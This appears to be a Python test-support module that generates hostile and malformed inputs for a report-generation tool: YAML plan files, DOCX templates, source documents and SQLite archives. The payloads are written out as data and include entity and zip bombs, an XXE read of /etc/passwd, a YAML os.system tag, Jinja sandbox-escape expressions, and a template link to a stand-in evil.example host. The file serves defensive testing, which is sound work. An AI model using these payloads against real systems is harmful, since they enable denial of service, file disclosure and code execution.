"""Hostile and broken inputs (issue 9): the case model, zip surgery, and the corpus of plan
files, report templates, source documents and archives (workbooks: hostile_workbooks.py).

Every case is built by code from one valid workbook/template/archive, so the corpus can be
regenerated; big cases are recipes made only when the corpus is written.
"""

from __future__ import annotations

import functools
import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from reportgen.limits import Limits
from reportgen.plan.load import max_plan_bytes

SHEET = "xl/worksheets/sheet2.xml"  # 指标填报 is the second sheet of a template
# What a run must do with a case: refuse it (exit 2); accept it with a warning naming the file
# (or refuse it); or accept it as a harmless variation of a valid input (or refuse it).
ERROR, WARN, OK = "error", "warning", "ok"
Data = bytes | Callable[[], bytes]  # a case's content, or how to make it (big ones are lazy)
ZEROS = bytes(20 * 1024 * 1024)  # deflates over 1000:1, far past the ratio limit of 200


@dataclass(frozen=True)
class Case:
    """One hostile input: the file to feed and which command reads it."""

    name: str
    kind: str  # "workbook" | "plan" | "template" | "extract" | "archive"
    path: Path
    expect: str = ERROR

    @property
    def acceptable(self) -> bool:
        """True when exit 0 is a correct answer (with a warning unless the input is harmless)."""
        return self.expect != ERROR


def rezip(
    data: bytes,
    edit: Callable[[str, bytes], bytes | None],
    extra: dict | None = None,
    level: int = 6,
) -> bytes:
    """Copy a zip package, passing each entry through ``edit`` (None drops it)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst,
    ):
        for info in src.infolist():
            body = edit(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def part_edit(part: str, edit: Callable[[str], str]) -> Callable[[str, bytes], bytes | None]:
    """An entry editor changing the text of one part only."""

    def entry(name: str, body: bytes) -> bytes:
        return edit(body.decode("utf-8")).encode("utf-8") if name == part else body

    return entry


def cell_edit(
    part: str, ref: str, inner: str, attrs: str = ""
) -> Callable[[str, bytes], bytes | None]:
    """Replace cell ``ref`` of a sheet part with ``<c r=ref attrs>inner</c>``."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)')
    cell = f'<c r="{ref}" {attrs}>{inner}</c>'
    return part_edit(part, lambda text: pattern.sub(lambda _: cell, text, count=1))


def append_rows(part: str, rows: str) -> Callable[[str, bytes], bytes | None]:
    """Add raw ``<row>`` XML at the end of a sheet's data."""
    return part_edit(part, lambda text: text.replace("</sheetData>", rows + "</sheetData>", 1))


def entity_bomb(root: str) -> bytes:
    levels = ['<!ENTITY l0 "boom">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    ]
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(levels)}]><{root}>&l9;</{root}>'.encode()
    )


@functools.cache
def _rows_xml() -> str:
    return "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 1_000_001))


def million_rows(dimension: str = "") -> bytes:
    """A worksheet of 1 000 000 rows (with a ``<dimension>`` element when given)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dimension}<sheetData>{_rows_xml()}</sheetData></worksheet>"
    ).encode()


def keep(name: str, body: bytes) -> bytes:
    return body


def replace_part(part: str, make: Callable[[], bytes]) -> Callable[[str, bytes], bytes | None]:
    """An entry editor replacing one part by ``make()``."""
    return lambda name, body: make() if name == part else body


def plan_yaml_cases() -> dict[str, tuple[Data, str]]:
    """name -> (bytes, expectation) for broken plan files."""
    good = "id: bad-plan\ntitle: 测试方案\nissuer: 某局\nsource: x.txt\nstart: 2023-01-01\nend: 2025-12-31\n"
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}]\n"
        for n in range(9)
    )
    rng = random.Random(22)

    def target(value: str) -> bytes:
        indicator = f"  - {{id: A, name: a, unit: 项, method: level, targets: {{2025: {value}}}, source_ref: r}}\n"
        return (good + "indicators:\n" + indicator).encode()

    cases = {
        "gb18030.yaml": (good.encode("gb18030"), ERROR),
        "utf16.yaml": (good.encode("utf-16"), ERROR),
        "latin1.yaml": ("id: x\ntitle: café\n".encode("latin-1"), ERROR),
        "alias_bomb.yaml": (bomb.encode(), ERROR),
        "anchor_simple.yaml": ((good + "x: &x 1\ny: *x\n").encode(), ERROR),
        "empty.yaml": (b"", ERROR),
        "only_comments.yaml": (b"# nothing\n", ERROR),
        "tabs.yaml": (good.replace("title", "\ttitle").encode(), ERROR),
        "unclosed_bracket.yaml": ((good + "indicators: [\n").encode(), ERROR),
        "duplicate_keys.yaml": ((good + "id: other\n").encode(), ERROR),
        "list_top.yaml": (b"- a\n- b\n", ERROR),
        "scalar_top.yaml": (b"just text\n", ERROR),
        "deep_nesting.yaml": (("[" * 50_000 + "]" * 50_000).encode(), ERROR),
        # one byte over the plan size limit (it follows REPORTGEN_MAX_ROWS, see plan.load)
        "huge.yaml": ((good + "note: " + "x" * max_plan_bytes(Limits()) + "\n").encode(), ERROR),
        "nan_target.yaml": (
            (
                good
                + "indicators:\n  - {id: A, name: a, method: level, targets: {2025: .nan}, source_ref: r}\n"
            ).encode(),
            ERROR,
        ),
        "inf_target.yaml": (
            (
                good
                + "indicators:\n  - {id: A, name: a, method: level, targets: {2025: .inf}, source_ref: r}\n"
            ).encode(),
            ERROR,
        ),
        "bool_target.yaml": (
            (
                good
                + "indicators:\n  - {id: A, name: a, method: level, targets: {2025: true}, source_ref: r}\n"
            ).encode(),
            ERROR,
        ),
        "python_tag.yaml": (
            (good + "x: !!python/object/apply:os.system ['echo hi']\n").encode(),
            ERROR,
        ),
        "binary_junk.yaml": (rng.randbytes(4096), ERROR),
        "nul_bytes.yaml": (good.encode() + b"\x00\x00", ERROR),
        "missing_keys.yaml": (b"id: only-id\n", ERROR),
        "bad_dates.yaml": (good.replace("2023-01-01", "2023-13-45").encode(), ERROR),
        "huge_float_target.yaml": (target("1.0e+300"), ERROR),
        "huge_int_target.yaml": (target("1" * 400), ERROR),
        "tiny_target.yaml": (target("1.0e-300"), ERROR),
    }
    return cases


def template_cases(valid_docx: bytes, xlsx: bytes) -> dict[str, tuple[Data, str]]:
    """name -> (bytes, expectation) for broken or malicious report templates."""
    rng = random.Random(6)

    def body_with(xml_text: str) -> bytes:
        def edit(name: str, body: bytes) -> bytes:
            if name != "word/document.xml":
                return body
            return re.sub(
                rb"<w:body>",
                b"<w:body><w:p><w:r><w:t>" + xml_text.encode() + b"</w:t></w:r></w:p>",
                body,
                count=1,
            )

        return rezip(valid_docx, edit)

    return {
        "tpl_random.docx": (rng.randbytes(5000), ERROR),
        "tpl_truncated.docx": (valid_docx[: len(valid_docx) // 2], ERROR),
        "tpl_not_docx.docx": (b"plain text", ERROR),
        "tpl_entity_bomb.docx": (
            rezip(
                valid_docx,
                lambda n, b: entity_bomb("w:document") if n == "word/document.xml" else b,
            ),
            ERROR,
        ),
        "tpl_dunder.docx": (body_with("{{ ''.__class__.__mro__ }}"), ERROR),
        "tpl_globals.docx": (body_with("{{ cycler.__init__.__globals__ }}"), ERROR),
        "tpl_import.docx": (body_with("{% import 'os' as os %}"), ERROR),
        "tpl_include_file.docx": (body_with("{% include '/etc/passwd' %}"), ERROR),
        "tpl_unclosed_tag.docx": (body_with("{% if x %}"), ERROR),
        "tpl_syntax.docx": (body_with("{{ x + }}"), ERROR),
        "tpl_zip_bomb.docx": (
            partial(rezip, valid_docx, keep, {"word/media/z.bin": ZEROS}),
            ERROR,
        ),
        "tpl_power.docx": (body_with("{{ 9 ** 9 ** 9 }}"), OK),
        "tpl_string_times.docx": (body_with("{{ 'x' * 2000000000 }}"), ERROR),
        "tpl_list_times.docx": (body_with("{{ [1] * 900000000 }}"), ERROR),
        "tpl_huge_range.docx": (body_with("{% for i in range(10**9) %}{% endfor %}"), ERROR),
        "tpl_subclasses.docx": (body_with("{{ ''.__class__.__mro__[1].__subclasses__() }}"), ERROR),
        "tpl_format_escape.docx": (body_with("{{ '{0.__class__}'.format(title) }}"), ERROR),
        "tpl_self_globals.docx": (body_with("{{ self.__init__.__globals__ }}"), ERROR),
        "tpl_private_attr.docx": (body_with("{{ title._x }}"), ERROR),
        "tpl_unknown_var.docx": (body_with("{{ no_such_variable }}"), ERROR),
        "tpl_unknown_filter.docx": (body_with("{{ title|no_such_filter }}"), ERROR),
        "tpl_extends.docx": (body_with("{% extends 'base.docx' %}"), ERROR),
        "tpl_external_entity.docx": (
            rezip(
                valid_docx,
                lambda n, b: (
                    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                    b"<d>&e;</d>"
                    if n == "word/document.xml"
                    else b
                ),
            ),
            ERROR,
        ),
        "tpl_footer_entity_bomb.docx": (
            rezip(valid_docx, lambda n, b: entity_bomb("w:ftr") if n == "word/footer1.xml" else b),
            ERROR,
        ),
        "tpl_document_garbage.docx": (
            rezip(valid_docx, lambda n, b: b"<<<" if n == "word/document.xml" else b),
            ERROR,
        ),
        "tpl_styles_garbage.docx": (
            rezip(valid_docx, lambda n, b: b"<<<" if n == "word/styles.xml" else b),
            ERROR,
        ),
        "tpl_no_document.docx": (
            rezip(valid_docx, lambda n, b: None if n == "word/document.xml" else b),
            ERROR,
        ),
        "tpl_empty.docx": (b"", ERROR),
        "tpl_xlsx_renamed.docx": (xlsx, ERROR),
        "tpl_many_entries.docx": (
            partial(
                rezip, valid_docx, keep, {f"word/junk/{n}.xml": b"<a/>" for n in range(10_001)}
            ),
            ERROR,
        ),
        "tpl_huge_paragraph.docx": (partial(body_with, "长" * 3_000_000), ERROR),
        "tpl_wrong_root.docx": (
            rezip(valid_docx, replace_part("word/document.xml", lambda: b"<d/>")),
            ERROR,
        ),
        "tpl_power_big.docx": (body_with("{{ 7 ** 99999999 }}"), ERROR),
        **sandbox_cases(valid_docx, body_with),
        "tpl_range_nested.docx": (
            body_with(
                "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
            ),
            ERROR,
        ),
    }


def sandbox_cases(
    valid_docx: bytes, body_with: Callable[[str], bytes]
) -> dict[str, tuple[Data, str]]:
    """Templates that reach library objects, blow up widths or loops, nest too deep, or carry
    external or active parts (issue 14): every one is refused (lint and report)."""
    rels = "word/_rels/document.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def with_rel(rel_type: str, target: str, external: bool = True) -> bytes:
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="rIdX" Type="{kind}/{rel_type}" Target="{target}"{mode}/>'
        return rezip(
            valid_docx,
            part_edit(rels, lambda t: t.replace("</Relationships>", rel + "</Relationships>")),
        )

    escape = "/tmp/reportgen-hostile-escape.docx"
    return {
        "tpl_escape_save.docx": (body_with(f"{{{{ chart.tpl.save('{escape}') }}}}"), ERROR),
        "tpl_escape_docx_save.docx": (
            body_with(f"{{{{ chart.tpl.docx.save('{escape}') }}}}"),
            ERROR,
        ),
        "tpl_escape_read_file.docx": (
            body_with("{{ chart.tpl.replace_zipname('docProps/app.xml', '/etc/passwd') }}"),
            ERROR,
        ),
        "tpl_escape_format_attr.docx": (body_with("{{ '{0.tpl}'.format(chart) }}"), ERROR),
        "tpl_center.docx": (body_with("{{ title|center(100000000) }}"), ERROR),
        "tpl_percent_width.docx": (body_with("{{ ('%' ~ 999999999 ~ 's') % title }}"), ERROR),
        "tpl_format_width.docx": (
            body_with("{{ ('{:>' ~ 999999999 ~ '}').format(title) }}"),
            ERROR,
        ),
        "tpl_lipsum.docx": (body_with("{{ lipsum(9999, False, 9999, 9999) }}"), ERROR),
        "tpl_loops_product.docx": (
            body_with(
                "{% for a in range(999) %}{% for b in range(999) %}{% for c in range(999) %}"
                "{% endfor %}{% endfor %}{% endfor %}"
            ),
            ERROR,
        ),
        "tpl_deep_parens.docx": (body_with("{{ " + "(" * 500 + "1" + ")" * 500 + " }}"), ERROR),
        "tpl_recursive_macro.docx": (
            body_with("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"),
            ERROR,
        ),
        "tpl_attached_template.docx": (
            with_rel("attachedTemplate", "http://evil.example/t.dotm"),
            ERROR,
        ),
        "tpl_linked_image_unc.docx": (with_rel("image", "\\\\evil\\share\\x.png"), ERROR),
        "tpl_altchunk.docx": (with_rel("aFChunk", "chunk.html", external=False), ERROR),
        "tpl_macros.docx": (rezip(valid_docx, keep, {"word/vbaProject.bin": b"VBA"}), ERROR),
    }


def extract_cases(valid_docx: bytes, xlsx: bytes) -> dict[str, tuple[Data, str]]:
    """name -> (bytes, expectation) for source documents given to `reportgen plan extract`."""
    rng = random.Random(31)
    line = "（一）到2025年，全市计量标准达到80项以上，覆盖率达到95%。\n"
    return {
        "src_random.txt": (rng.randbytes(8192), ERROR),
        "src_random.docx": (rng.randbytes(8192), ERROR),
        "src_empty.txt": (b"", ERROR),
        "src_nul.txt": (b"\x00" * 5000, ERROR),
        "src_utf16.txt": (line.encode("utf-16"), WARN),
        "src_huge.txt": (lambda: (line * 40_000).encode(), ERROR),
        "src_many_lines.txt": (("一、目标\n" * 200_000).encode(), ERROR),
        "src_one_long_line.txt": (("计量" * 1_500_000).encode(), ERROR),
        "src_zip_bomb.docx": (
            partial(rezip, valid_docx, keep, {"word/media/z.bin": ZEROS}),
            ERROR,
        ),
        "src_entity_bomb.docx": (
            rezip(
                valid_docx, replace_part("word/document.xml", partial(entity_bomb, "w:document"))
            ),
            ERROR,
        ),
        "src_truncated.docx": (valid_docx[: len(valid_docx) // 3], ERROR),
        "src_xlsx_renamed.docx": (xlsx, ERROR),
        "src_word97.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), ERROR),
        "src_zip_as_txt.txt": (valid_docx, WARN),
        "src_wrong_root.docx": (
            rezip(valid_docx, replace_part("word/document.xml", lambda: b"<d/>")),
            ERROR,
        ),
    }


def archive_cases(make_archive: Callable[[], bytes]) -> dict[str, tuple[Data, str]]:
    """name -> (bytes, expectation) for archive files that are damaged or not archives at all."""
    import sqlite3
    import tempfile

    def foreign() -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.sqlite"
            with sqlite3.connect(path) as conn:
                conn.execute("CREATE TABLE customers (id INTEGER, name TEXT)")
            conn.close()
            return path.read_bytes()

    def future_version() -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.sqlite"
            path.write_bytes(make_archive())
            with sqlite3.connect(path) as conn:
                conn.execute("UPDATE schema_version SET version = 99")
            conn.close()
            return path.read_bytes()

    def cut(fraction: float) -> bytes:
        data = make_archive()
        return data[: int(len(data) * fraction)]

    def scribbled() -> bytes:
        data = bytearray(make_archive())
        data[4096:8192] = random.Random(4).randbytes(4096)
        return bytes(data)

    def short_year_key() -> bytes:
        """A snapshot filed under '5-Q2', as releases before four-digit keys wrote year 5."""
        from dataclasses import replace

        from reportgen.archive import Archive
        from reportgen.archive.snapshot import draft
        from tests.support.archive_builders import make_inputs, make_plan

        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.sqlite"
            path.write_bytes(make_archive())
            plan = make_plan()
            period, dataset, result = make_inputs(plan, "0005-Q2", {"I1": 1, "I2": 2.0})
            snapshot = draft(plan, period, dataset, result, None)
            old = replace(snapshot, info=replace(snapshot.info, period_key="5-Q2"))
            with Archive.open(path) as archive:
                archive._store.insert_snapshot(old, plan.canonical_json)
            return path.read_bytes()

    rng = random.Random(77)
    return {
        "arc_short_year_key.sqlite": (short_year_key, OK),
        "arc_random.sqlite": (rng.randbytes(16384), ERROR),
        "arc_text.sqlite": ("这不是数据库\n".encode() * 100, ERROR),
        "arc_header_only.sqlite": (b"SQLite format 3\x00" + bytes(84), ERROR),
        "arc_foreign.sqlite": (foreign, ERROR),
        "arc_future_version.sqlite": (future_version, ERROR),
        "arc_truncated.sqlite": (partial(cut, 0.5), ERROR),
        "arc_scribbled.sqlite": (scribbled, ERROR),
        "arc_xlsx_renamed.sqlite": (b"PK\x03\x04" + rng.randbytes(3000), ERROR),
    }


@dataclass(frozen=True)
class Spec:
    """A case before it is written: its content may still be a recipe (see ``Data``)."""

    kind: str
    name: str
    data: Data
    expect: str


def build_corpus(root: Path, specs: list[Spec]) -> list[Case]:
    """Write every case under ``root/<kind>/`` and return them."""
    cases: list[Case] = []
    for spec in specs:
        folder = root / spec.kind
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / spec.name
        path.write_bytes(spec.data() if callable(spec.data) else spec.data)
        cases.append(Case(spec.name, spec.kind, path, spec.expect))
    return cases
